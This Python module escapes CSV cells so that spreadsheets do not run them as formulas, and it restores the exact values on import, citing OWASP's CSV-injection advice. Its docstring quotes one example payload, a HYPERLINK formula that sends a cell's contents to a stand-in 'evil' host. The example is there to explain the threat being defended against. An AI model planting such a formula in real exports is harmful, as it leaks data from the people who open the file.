"""CSV cells a spreadsheet cannot run as formulas, and back exactly (CSV injection, OWASP).

Excel, LibreOffice and Google Sheets read a cell whose first character is `=`, `+`, `-`, `@`, tab or
CR as a formula: `=HYPERLINK("http://evil/?"&A1,"click")` in a product name would be live the
moment the export is opened. Export writes such a cell with a leading `'` (OWASP's advice: the
spreadsheet shows it as text); import takes that `'` off again.

The escape, unambiguous so that every value comes back exactly:

- `escape_cell(v)` prefixes one `'` when `v` starts with a trigger character, or with `'` followed
  by a trigger character or by another `'` (so a value that itself looks escaped stays apart);
- `unescape_cell(c)` removes one leading `'` exactly when the next character is a trigger or `'`.

`unescape_cell(escape_cell(v)) == v` for every text `v`: an escaped cell is `'` + a value starting
with a trigger or `'`, and a value left alone never starts with `'` + trigger/`'`.

Numbers are data, not formulas: `number_cell` writes a finite number of a numeric column (a
price modifier of -500) as plain `-500` so the spreadsheet reads a number. Text that merely looks
numeric is escaped like any other text (import restores it either way).
"""

from __future__ import annotations

import re
from decimal import Decimal

FORMULA_TRIGGERS = frozenset("=+-@\t\r")
QUOTE = "'"
# A number as str() writes it: what a spreadsheet reads as a number, never as a formula.
_PLAIN_NUMBER = re.compile(r"-?\d+(?:\.\d+)?(?:[eE][+-]?\d+)?")


def _needs_quote(text: str) -> bool:
    if not text:
        return False
    if text[0] in FORMULA_TRIGGERS:
        return True
    return text[0] == QUOTE and len(text) > 1 and (text[1] in FORMULA_TRIGGERS or text[1] == QUOTE)


def escape_cell(text: str) -> str:
    """`text` as a CSV cell no spreadsheet runs as a formula (see the module docstring)."""
    return QUOTE + text if _needs_quote(text) else text


def unescape_cell(cell: str) -> str:
    """A CSV cell's value: `escape_cell` undone (one leading `'` before a trigger or `'` goes)."""
    if len(cell) > 1 and cell[0] == QUOTE and (cell[1] in FORMULA_TRIGGERS or cell[1] == QUOTE):
        return cell[1:]
    return cell


def number_cell(value: int | float | Decimal) -> str:
    """A number's cell: plain (`-500`, `-1.50`) when it is a finite number, so a spreadsheet
    reads it as one; escaped like text otherwise (`-Infinity`, `NaN`)."""
    text = str(value)
    return text if _PLAIN_NUMBER.fullmatch(text) else escape_cell(text)
